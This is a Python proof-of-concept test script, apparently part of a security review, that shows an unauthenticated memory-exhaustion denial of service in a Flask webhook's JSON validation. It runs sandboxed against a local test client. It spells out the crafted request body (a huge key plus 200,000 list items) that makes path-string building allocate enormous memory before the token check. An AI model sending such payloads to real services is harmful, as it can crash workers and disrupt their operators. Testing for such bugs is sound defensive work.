"""Unauthenticated memory blow-up (and a 500) in the door's JSON checks.

parse_json() runs before the token check (the documented order) and, when the body has more than 32
brackets, walks it with too_deep(), which builds the path string of EVERY child eagerly:
f"{path}[{index}]" copies the parent's path (here a 600 KB key) into each of the list's
200,000 children: ~120 GB for a body under 1 MiB. lone_surrogate() does the same when the
body has any \\ud8.. escape (even a valid pair).

The app runs in a child process (Flask test client) with RLIMIT_AS = --limit-mb so this
machine is safe: the request, sent WITHOUT a valid token, gets a 500 (MemoryError) instead
of 401. Without the limit the gunicorn worker grows until the OOM killer ends it (and with
it the in-process delivery loop and the other requests of that worker). A smaller body
(20 KB key x 20,000 items, 60 KB) is also timed to show the growth: answered 401, but only
after allocating ~400 MB.

    .venv/bin/python attacks/new/path_blowup.py [--limit-mb 1500]
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap

import common

CHILD = textwrap.dedent(r'''
    import json, resource, sys, time, tempfile, os
    key_bytes, items, limit_mb, checkout = (int(sys.argv[1]), int(sys.argv[2]),
                                            int(sys.argv[3]), sys.argv[4])
    sys.path.insert(0, checkout)
    from drift_segment_source import create_app
    folder = tempfile.mkdtemp(prefix="dss-new-blowup-")
    app = create_app({"DATABASE_URL": f"sqlite:///{folder}/s.sqlite3",
                      "DRIFT_VERIFICATION_TOKEN": "right-token", "LOG_LEVEL": "CRITICAL"})
    app.extensions["store"].migrate()
    client = app.test_client()
    body = ('{"' + "k" * key_bytes + '":[' + ",".join(["0"] * items) + '],"pad":['
            + ",".join(["[]"] * 40) + ']}').encode()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    resource.setrlimit(resource.RLIMIT_AS, (limit_mb * 2**20, limit_mb * 2**20))
    started = time.monotonic()
    response = client.post("/webhooks/drift", data=body, content_type="application/json",
                           headers={"X-Verification-Token": "wrong-token"})
    elapsed = time.monotonic() - started
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"body_bytes": len(body), "status": response.status_code,
                      "answer": (response.get_json(silent=True) or {}).get("error"),
                      "seconds": round(elapsed, 2),
                      "peak_rss_growth_mb": round((after - before) / 1024)}))
''')


def run(checkout: str, key_bytes: int, items: int, limit_mb: int) -> dict:
    done = subprocess.run([sys.executable, "-c", CHILD, str(key_bytes), str(items),
                           str(limit_mb), checkout], capture_output=True, text=True,
                          timeout=300)
    lines = [line for line in done.stdout.splitlines() if line.startswith("{")]
    if not lines:
        return {"error": done.stderr[-800:]}
    return json.loads(lines[-1])


def main() -> None:
    args = common.arguments(__doc__, lambda p: p.add_argument("--limit-mb", type=int,
                                                               default=1500))
    small = run(args.checkout, 20_000, 20_000, args.limit_mb)
    big = run(args.checkout, 600_000, 200_000, args.limit_mb)
    report = {"wrong_token_small_body": small, "wrong_token_big_body": big,
              "expected": "401 unauthorized, in milliseconds, without allocating",
              "rlimit_as_mb": args.limit_mb}
    report["five_xx"] = int(big.get("status", 0) >= 500) + int(small.get("status", 0) >= 500)
    report["bug"] = bool(report["five_xx"]) or small.get("peak_rss_growth_mb", 0) > 100
    common.finish(report)


if __name__ == "__main__":
    common.harness.guard(main)
